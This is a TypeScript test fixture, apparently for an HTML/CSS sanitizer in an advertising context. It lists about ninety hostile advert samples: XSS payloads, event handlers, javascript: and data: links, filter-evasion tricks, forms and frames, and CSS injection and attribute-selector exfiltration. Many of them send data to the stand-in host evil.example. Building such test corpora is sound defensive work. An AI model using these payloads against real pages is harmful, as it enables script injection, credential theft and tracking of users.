export interface HostileAdvert {
  readonly name: string
  readonly html?: string
  readonly css?: string
}

const evil = "https://evil.example"

const html = (name: string, text: string): HostileAdvert => ({ name, html: text })
const css = (name: string, text: string): HostileAdvert => ({ name, css: text })

/**
 * Adverts that try to run scripts, load resources, navigate, cover the page or read data; each name describes the
 * attempt.
 */
export const hostileAdverts: ReadonlyArray<HostileAdvert> = [
  html("a script", "<script>top.location='https://evil.example/1'</script>"),
  html("a script in capitals", "<SCRIPT SRC=https://evil.example/s.js></SCRIPT>"),
  html("a script as a module", `<script type="module" src="${evil}/m.js"></script>`),
  html("a script within a script", "<scr<script>ipt>fetch('//evil.example/2')</scr</script>ipt>"),
  html("a broken script", "<script/x>fetch('//evil.example/3')</script/x>"),
  html("a handler", `<p onclick="fetch('${evil}/4')">x</p>`),
  html("a handler without quotes", "<img src=x onerror=fetch('//evil.example/5')>"),
  html("a handler after a slash", "<img/src=x/onerror=fetch('//evil.example/6')>"),
  html("a handler on what loads", `<body onload="fetch('${evil}/7')"><p>x</p></body>`),
  html("a handler of a drawing", `<svg onload="fetch('${evil}/8')"></svg>`),
  html("a script in a drawing", `<svg><script>fetch('${evil}/9')</script></svg>`),
  html("a link in a drawing", `<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>`),
  html("an animation of a link", `<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>`),
  html("a picture in a drawing", `<svg><image href="${evil}/10.png"/></svg>`),
  html("a formula with a link", `<math href="javascript:alert(1)">CLICK</math>`),
  html(
    "a confusion of formula and rules",
    `<math><style><img src=x onerror=fetch('//evil.example/11')></style></math>`
  ),
  html("a comment that ends", `<!--><img src=x onerror=fetch('//evil.example/12')>-->`),
  html("a section of characters", `<![CDATA[><img src=x onerror=fetch('//evil.example/13')>]]>`),
  html("a link to a script", `<a href="javascript:fetch('${evil}/14')">x</a>`),
  html("a link to a script with a tab", `<a href="java\tscript:fetch('//evil.example/15')">x</a>`),
  html("a link to a script by its number", `<a href="&#106;avascript:fetch('//evil.example/16')">x</a>`),
  html("a link to a script after a sign", `<a href="\u0001javascript:alert(1)">x</a>`),
  html("a link to bytes", `<a href="data:text/html,<script>fetch('//evil.example/17')</script>">x</a>`),
  html("a link to an old script", `<a href="vbscript:msgbox(1)">x</a>`),
  html("a link without its scheme", `<a href="//evil.example/18">x</a>`),
  html("a link with a backslash", String.raw`<a href="/\evil.example/19">x</a>`),
  html("a link by http", `<a href="http://evil.example/20">x</a>`),
  html("a link with a name and a password", `<a href="https://heizmarkt.de:x@evil.example/21">x</a>`),
  html("a link that signs out", `<a href="/session/end">x</a><a href="/api/account/jwt/abmelden">y</a>`),
  html("a link that tells of its click", `<a href="/preisalarm" ping="${evil}/22">x</a>`),
  html("a link that keeps a file", `<a href="/preisalarm" download="x.exe" target="_top">x</a>`),
  html("a form", `<form action="${evil}/23"><input name="password"><button>x</button></form>`),
  html("a form that sends itself", `<form id="f" action="${evil}/24"></form><script>f.submit()</script>`),
  html("a button of another form", `<button form="f" formaction="${evil}/25">x</button>`),
  html("a picture that sends", `<input type="image" src="${evil}/26.png" formaction="${evil}/26">`),
  html("a meta that goes on", `<meta http-equiv="refresh" content="0;url=${evil}/27">`),
  html("a meta that sets a cookie", `<meta http-equiv="set-cookie" content="guest=1">`),
  html("a meta that opens the policy", `<meta http-equiv="content-security-policy" content="default-src *">`),
  html("a base", `<base href="${evil}/"><a href="x">x</a><img src="28.png">`),
  html("a base for targets", `<base target="_top"><p>x</p>`),
  html("a frame", `<iframe src="${evil}/29"></iframe>`),
  html("a frame with its own text", `<iframe srcdoc="<script>fetch('//evil.example/30')</script>"></iframe>`),
  html("frames of old", `<frameset><frame src="${evil}/31"></frameset>`),
  html("an object", `<object data="${evil}/32"></object>`),
  html("an embedded file", `<embed src="${evil}/33">`),
  html("an applet", `<applet code="x" archive="${evil}/34.jar"></applet>`),
  html("a link element", `<link rel="stylesheet" href="${evil}/35.css">`),
  html(
    "a connection made early",
    `<link rel="preconnect" href="${evil}"><link rel="prefetch" href="${evil}/36">`
  ),
  html("a picture of others", `<img src="${evil}/37.png" alt="">`),
  html("a picture of others by its sizes", `<img src="/bilder/haus.svg" srcset="${evil}/38.png 1x" alt="">`),
  html(
    "a picture of others among sources",
    `<picture><source srcset="${evil}/39.png"><img src="x" alt=""></picture>`
  ),
  html("a picture of a call", `<img src="/session/renew" alt=""><img src="/api/common" alt="">`),
  html("a film", `<video src="${evil}/40.mp4" poster="${evil}/40.png" autoplay></video>`),
  html("a sound", `<audio src="${evil}/41.mp3" autoplay></audio>`),
  html("a background of old", `<table background="${evil}/42.png"><tr><td>x</td></tr></table>`),
  html("rules beside an element", `<p style="position:fixed;inset:0;background:url(${evil}/43.png)">x</p>`),
  html("rules in the text", `<style>@import '${evil}/44.css'; *{position:fixed}</style>`),
  html("an end of what it stands in", `</body></html><script>fetch('${evil}/45')</script>`),
  html("text that is never shown", `<template><script>fetch('${evil}/46')</script></template>`),
  html(
    "a title that ends",
    `<title><a title="</title><img src=x onerror=fetch('//evil.example/47')>"></title>`
  ),
  html(
    "a text field that ends",
    `<textarea></textarea><img src=x onerror=fetch('//evil.example/48')></textarea>`
  ),
  html("a dialog in front", `<dialog open autofocus tabindex="1" onfocus="fetch('${evil}/49')">x</dialog>`),
  html("an element of its own", `<x-y id="location" name="cookie" is="z" onclick="alert(1)">x</x-y>`),
  css("an import", `@import url("${evil}/50.css");`),
  css("an import without its sign", `@import "${evil}/51.css" screen;`),
  css("a background of others", `p{background:url(${evil}/52.png)}`),
  css("a picture of a set", `p{background-image:image-set("${evil}/53.png" 1x)}`),
  css("a font of others", `@font-face{font-family:x;src:url(${evil}/54.woff2)}p{font-family:x}`),
  css("a pointer of others", `a{cursor:url(${evil}/55.cur),auto}`),
  css("a mark of lists of others", `li{list-style:url(${evil}/56.png)}`),
  css("words of its own", `p::before{content:url(${evil}/57.png)}`),
  css("reading of attributes", `a[href^="/anzeige/1"]{background:url(${evil}/58)}`),
  css("reading of a field", `input[value^="a"]{color:red}a[href]{color:red}`),
  css("reading of text", `p{color:attr(title)}`),
  css("a fixed position", `div{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999}`),
  css("a position that sticks", `div{position:sticky;inset:0}`),
  css("a name in escapes", String.raw`p{\70osition:fixed;\75rl:x;background:u\72l(//evil.example/59)}`),
  css("a script of old", `p{width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)}`),
  css("a name for a value", `p{--x:url(${evil}/60);background:var(--x)}`),
  css("an end of the element", `p{color:red}</style><script>fetch('${evil}/61')</script>`),
  css("an end within a text", `p{font-family:"</style><img src=x onerror=alert(1)>"}`),
  css("a comment that hides", `p{color:red}/*</style><script>alert(1)</script>*/`),
  css(
    "a rule for other shapes",
    `@supports(display:grid){p{position:fixed}}@page{margin:0}@layer x{p{color:red}}`
  ),
  css("a rule within a rule", `p{color:red;&[title]{background:url(${evil}/62)}}`),
  css("a rule that moves", `@keyframes x{from{background:url(${evil}/63)}}p{animation:x 1s}`),
  css("a space of names", `@namespace url(${evil}/64);@charset "utf-7";`)
]
